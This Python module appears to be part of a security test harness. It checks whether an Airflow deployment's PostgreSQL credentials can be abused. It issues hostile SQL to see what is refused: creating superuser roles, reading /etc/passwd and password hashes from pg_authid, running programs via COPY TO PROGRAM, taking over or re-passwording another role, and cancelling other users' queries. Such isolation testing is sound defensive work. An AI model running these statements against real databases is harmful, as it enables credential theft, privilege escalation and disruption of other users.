"""The PostgreSQL server, with the address that every component of an Airflow holds.

Airflow 3 hides it from tasks, though not from plug-ins.
"""

from __future__ import annotations

import re
from importlib import import_module
from typing import Any

from . import TARGETS, RefusedError, attempt

_ADDRESS = re.compile(r".*://(?P<user>.*?):(?P<password>.*?)@(?P<host>.*?)/(?P<database>.*)")
_UNDO = {
    "CREATE DATABASE attacked": "DROP DATABASE attacked",
    "ALTER SYSTEM SET work_mem = '4MB'": "ALTER SYSTEM RESET work_mem",
}
"""These cannot be rolled back."""


def _connect(**changes: str) -> Any:
    found = _ADDRESS.match(TARGETS["database_url"])
    parts = {**(found.groupdict() if found else {}), **changes}
    url = "postgresql://{user}:{password}@{host}/{database}".format(**parts)
    return import_module("psycopg2").connect(url, connect_timeout=5)


@attempt(
    [
        *_UNDO,
        "CREATE ROLE attacked SUPERUSER",
        "SELECT pg_read_file('PG_VERSION')",
        "SELECT pg_ls_dir('.')",
        "SELECT lo_import('/etc/passwd')",
        "COPY (SELECT 1) TO PROGRAM 'cat'",
        "COPY (SELECT 1) TO '/dev/null'",
        "SELECT rolpassword FROM pg_authid",
        "SET SESSION AUTHORIZATION astro_ui",
        "SET ROLE astro_ui",
        "ALTER ROLE astro_ui PASSWORD 'mine'",
        "CREATE FUNCTION attacked() RETURNS int LANGUAGE internal AS 'pg_backend_pid'",
    ]
)
def ask_the_server(statement: str) -> None:
    connection = _connect()
    connection.autocommit = statement in _UNDO
    try:
        connection.cursor().execute(statement)
        if statement in _UNDO:
            connection.cursor().execute(_UNDO[statement])
    finally:
        connection.close()


@attempt("other_databases")
def enter_another_database(name: str) -> None:
    _connect(database=name).close()


@attempt("other_roles")
def be_another_role(name: str) -> None:
    _connect(user=name).close()


@attempt(["astro_ui"])
def read_what_others_ask(role: str) -> None:
    query = "SELECT 1 FROM pg_stat_activity WHERE usename = %s AND query NOT LIKE '<insufficient%%'"
    if not _rows(query, role):
        raise RefusedError("others' queries are hidden")


@attempt(["astro_ui"])
def disturb_what_others_ask(role: str) -> None:
    if not _rows("SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = %s", role):
        raise RefusedError("nobody to disturb")


def _rows(query: str, *values: str) -> list[Any]:
    connection = _connect()
    try:
        cursor = connection.cursor()
        cursor.execute(query, values)
        return list(cursor)
    finally:
        connection.close()
